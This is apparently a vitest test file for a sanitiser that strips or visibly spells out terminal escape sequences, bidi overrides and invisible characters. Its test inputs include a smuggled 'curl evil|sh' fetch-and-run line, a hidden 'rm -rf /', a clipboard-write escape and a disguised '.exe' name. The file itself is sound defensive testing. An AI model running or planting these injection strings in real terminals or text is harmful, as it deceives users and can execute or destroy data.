import { describe, expect, test } from 'vitest'
import { clean, cleanJson, cleanLine, cleanLines, spelled, streamedLines } from './clean.ts'

describe('clean', () => {
  test.each([
    ['colours', '\u001b[1;31mred\u001b[0m', 'red'],
    ['a cleared screen', 'a\u001b[2J\u001b[Hb', 'ab'],
    ['a title, ended by BEL', '\u001b]0;owned\u0007text', 'text'],
    ['a title, ended by ST', '\u001b]0;owned\u001b\\text', 'text'],
    ['a hyperlink', '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007', 'click'],
    ['a clipboard write', '\u001b]52;c;ZXZpbA==\u0007done', 'done'],
    ['a device control string', '\u001bPq#0\u001b\\x', 'x'],
    ['8-bit sequences', '\u009b31mred\u009d0;t\u009cend', 'redend'],
    ['the escape of an unfinished sequence without hiding text', 'safe\u001b]0;never ended', 'safe]0;never ended'],
    ['a lone escape', 'a\u001b', 'a'],
    ['a saved cursor', 'a\u001b7b\u001b8c', 'abc'],
    ['a bell and a backspace', 'a\u0007\u0008b', 'ab'],
    ['a carriage return that would overwrite', 'safe\rEVIL', 'safe\nEVIL'],
    ['reversed text', 'user\u202egnp.exe\u202c', 'usergnp.exe'],
    ['isolates', '\u2066a\u2069', 'a'],
    ['zero-width characters', 'pass\u200bword\ufeff', 'password'],
    ['tags', 'a\u{e0041}\u{e0042}b', 'ab'],
    ['half a surrogate pair', 'a\ud83db', 'ab'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\nb\nc'],
    ['other line ends', 'a\u0085b\u000bc\u000cd\r\ne', 'a\nb\nc\nd\ne'],
  ])('removes %s', (_what, hostile, safe) => expect(clean(hostile)).toBe(safe))

  test.each(['Grüße, 日本語, עברית, 🎉 👩‍👩‍👧 🏛️', 'tab\tand\nnew line', '[31m without an escape is text'])(
    'keeps %j',
    (text) => expect(clean(text)).toBe(text),
  )

  test('leaves no control sequences, whatever the bytes are', () => {
    const sample = (seed: number) => {
      let state = seed
      return Array.from({ length: 60 }, () => {
        state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff
        return String.fromCharCode(state % 3 === 0 ? 0x1b : state % 0xa5)
      }).join('')
    }
    for (let seed = 1; seed < 2_000; seed++) expect(clean(sample(seed))).not.toMatch(/[^\P{Cc}\n\t]/u)
  })
})

test.each(['\u009d', '\u001b]', '\u001b[', '\u001b[1', 'a\u001b'])(
  'a long text of repeated %j is cleaned quickly',
  (start) => expect(clean(`${start.repeat(100_000)}\u001b`)).not.toMatch(/[^\P{Cc}\n\t]/u),
)

test('streamed text has the same lines as the whole text, wherever it is cut', () => {
  const text = 'Fine.\r\r✓ Approved\r\n✓ Done\u2028LS\u0085NEL\u000bVT\u001b[31m\rred'
  for (let cut = 0; cut <= text.length; cut++) {
    const first = streamedLines(text.slice(0, cut))
    const open = first.pop() ?? ''
    expect([...first, ...streamedLines(open + text.slice(cut))].map(clean)).toEqual(cleanLines(text))
  }
})

test('a cleaned line is one line', () => expect(cleanLine(' a\n\tb\u001b[0m  c ')).toBe('a b c'))

test('clean JSON is the same value without control characters', () => {
  const value = { text: '\u001b[31m\u009b1m\u202e\u2028\u007f"' }
  expect(cleanJson(value)).not.toMatch(/[\p{Cc}\u202e\u2028]/u)
  expect(JSON.parse(cleanJson(value))).toEqual(value)
})

describe('spelled', () => {
  test.each([
    ['text between two controls', 'a=\u001b];curl evil|sh;#\u0007', 'a=\\u{1b}];curl evil|sh;#\\u{7}'],
    ['a carriage return that would overwrite', 'rm -rf /\rls', 'rm -rf /\\u{d}ls'],
    ['reversed text', 'a\u202eb', 'a\\u{202e}b'],
    ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
    ['a line separator', 'a\u2028b', 'a\\u{2028}b'],
  ])('keeps %s visible', (_what, hostile, shown) => {
    expect(spelled(hostile)).toBe(shown)
    expect(clean(shown)).toBe(shown)
  })

  test('leaves ordinary text alone, in any language and with any line endings', () => {
    expect(spelled('tab\tGrüße, 日本語 👩‍👩‍👧\r\nnext')).toBe('tab\tGrüße, 日本語 👩‍👩‍👧\nnext')
  })
})
